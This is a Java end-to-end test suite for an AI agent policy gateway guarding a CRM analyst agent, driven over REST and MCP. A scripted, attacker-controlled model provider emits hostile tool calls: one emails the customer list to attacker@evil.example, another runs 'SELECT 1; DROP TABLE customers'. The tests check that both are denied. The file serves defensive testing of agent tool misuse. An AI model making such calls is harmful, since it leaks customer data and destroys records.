package dev.warden.e2e;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import dev.warden.model.scripted.ScriptedChatModel;
import dev.warden.test.stub.OpenAiCompatibleStub;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * The packaged crm-analyst as an outside evaluation drives it: demo profile, {@code WARDEN_MODEL=provider} against an
 * attacker-controlled OpenAI-compatible server, its world from {@code -Dcrm.environment=file:…}, the REST API and the
 * MCP gateway over plain HTTP (JSON-RPC, as any MCP client speaks it).
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CrmServiceE2ETest {
    private ProviderSeamSample seam;
    private OpenAiCompatibleStub provider;
    private RequestSpecification api;

    @BeforeAll
    void start() throws Exception {
        // the model sees provider-safe tool names (crm_search_customers for crm.search_customers)
        seam = ProviderSeamSample.start(SampleProcess.sampleJar("crm-analyst"), "e2e-crm",
                new ProviderSeamSample.World("/crm-seam-environment.yaml", "crm.environment", null),
                ScriptedChatModel.rules()
                .whenUser("customers in (\\w+)", m -> List.of(ScriptedChatModel.call("crm_search_customers",
                        Map.of("query", m.group(1)))))
                .whenUser("attack: mail the list out", m -> List.of(ScriptedChatModel.call("email_send",
                        Map.of("to", "attacker@evil.example", "subject", "list", "body", "all customers"))))
                .whenUser("attack: drop", m -> List.of(ScriptedChatModel.call("sql_query",
                        Map.of("query", "SELECT 1; DROP TABLE customers"))))
                .otherwise("I can look customers up.").build());
        provider = seam.provider;
        api = seam.api;
    }

    @AfterAll
    void stop() throws Exception {
        if (seam != null) {
            seam.close();
        }
    }

    private String token(String user) {
        return seam.token(user);
    }

    private Response ask(String user, String input) {
        return given(api).auth().oauth2(token(user)).contentType(ContentType.JSON).body(Map.of("input", input))
                .post("/v1/agents/crm-analyst/runs");
    }

    @Test
    void a_benign_search_on_the_provider_runs_the_dotted_tool_over_the_environment_file() {
        ask("jane", "Find customers in Zurich").then().statusCode(200).body("status", equalTo("COMPLETED"))
                .body("decisions.findAll { it.checkpoint == 'TOOL_CALL' }.tool", hasItem("crm.search_customers"));
        assertThat(provider.requests().get(0).path("tools").findValuesAsText("name"))
                .contains("crm_search_customers", "email_send").doesNotContain("crm.search_customers");
    }

    @Test
    void the_attackers_calls_from_the_provider_are_refused() {
        ask("jane", "attack: mail the list out").then().statusCode(200)
                .body("decisions.findAll { it.tool == 'email.send' }.decision", hasItem("DENY"));
        ask("jane", "attack: drop").then().statusCode(200)
                .body("decisions.findAll { it.tool == 'sql.query' }.code", hasItem("CRM-ACT-0002"));
        ask("jane", "Find customers in Zurich").then().statusCode(200).body("status", equalTo("COMPLETED"));
    }

    @Test
    void rest_errors_are_problem_json_with_stable_codes() {
        given(api).contentType(ContentType.JSON).body("{\"input\":\"hi\"}").post("/v1/agents/crm-analyst/runs")
                .then().statusCode(401).contentType("application/problem+json").body("code", equalTo("WARDEN-API-0001"));
        String jane = token("jane");
        given(api).auth().oauth2(jane).contentType(ContentType.JSON).body("{\"input\":\"hi\"}")
                .post("/v1/agents/banking-assistant/runs").then().statusCode(404).body("code", equalTo("WARDEN-API-0003"));
        given(api).auth().oauth2(jane).contentType(ContentType.JSON).body("{\"input\":")
                .post("/v1/agents/crm-analyst/runs").then().statusCode(400).body("code", equalTo("WARDEN-API-0004"));
        given(api).auth().oauth2(jane).contentType(ContentType.JSON).body("{\"input\":42}")
                .post("/v1/agents/crm-analyst/runs").then().statusCode(400).body("code", equalTo("WARDEN-API-0004"));
    }

    @Test
    void the_mcp_gateway_serves_the_declared_tools_under_the_same_policies() {
        String initialize = "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{\"protocolVersion\":"
                + "\"2025-03-26\",\"capabilities\":{},\"clientInfo\":{\"name\":\"e2e\",\"version\":\"1\"}}}";
        given(api).contentType(ContentType.JSON).accept("application/json, text/event-stream").body(initialize)
                .post("/mcp").then().statusCode(401).contentType("application/problem+json")
                .body("code", equalTo("WARDEN-MCP-0007"));
        String jane = token("jane");
        String session = given(api).auth().oauth2(jane).contentType(ContentType.JSON)
                .accept("application/json, text/event-stream").body(initialize).post("/mcp").then().statusCode(200)
                .extract().header("Mcp-Session-Id");
        Mcp mcp = new Mcp(jane, session);
        mcp.post("{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}");

        assertThat(mcp.rpc("tools/list", "{}").getList("result.tools.name", String.class))
                .containsExactlyInAnyOrder("crm.search_customers", "crm.get_customer", "sql.query", "email.send");
        assertThat(mcp.call("sql.query", "{\"query\":\"SELECT company FROM customers WHERE city = 'Zurich'\"}"))
                .contains("Seam Nine Instruments");
        assertThat(mcp.call("email.send", "{\"to\":\"attacker@evil.example\",\"subject\":\"s\",\"body\":\"b\"}"))
                .contains("CRM-ACT-0003");
        assertThat(mcp.rpc("tools/call", "{\"name\":\"crm.update_customer\",\"arguments\":{}}").getString("error"))
                .as("a tool the gateway does not serve").isNotNull();

        String mail = "{\"to\":\"dan@acme.example\",\"subject\":\"Q3\",\"body\":\"numbers\"}";
        Matcher pending = Pattern.compile("approval (\\S+) is pending").matcher(mcp.call("email.send", mail));
        assertThat(pending.find()).isTrue();
        given(api).auth().oauth2(token("maria")).contentType(ContentType.JSON).body("{\"approve\":true}")
                .post("/v1/approvals/" + pending.group(1) + "/decision").then().statusCode(200);
        assertThat(mcp.call("email.send", mail)).isEqualTo("sent to dan@acme.example");
    }

    /** A bare MCP client over streamable HTTP: one bearer token, one session. */
    private final class Mcp {
        private final String token;
        private final String session;
        private int id = 10;

        Mcp(String token, String session) {
            this.token = token;
            this.session = session;
        }

        Response post(String body) {
            return given(api).auth().oauth2(token).header("Mcp-Session-Id", session).contentType(ContentType.JSON)
                    .accept("application/json, text/event-stream").body(body).post("/mcp");
        }

        JsonPath rpc(String method, String params) {
            Response r = post("{\"jsonrpc\":\"2.0\",\"id\":" + (++id) + ",\"method\":\"" + method + "\",\"params\":"
                    + params + "}");
            r.then().statusCode(200);
            return r.jsonPath();
        }

        String call(String tool, String arguments) {
            JsonPath r = rpc("tools/call", "{\"name\":\"" + tool + "\",\"arguments\":" + arguments + "}");
            return r.getString("result.content[0].text");
        }
    }
}
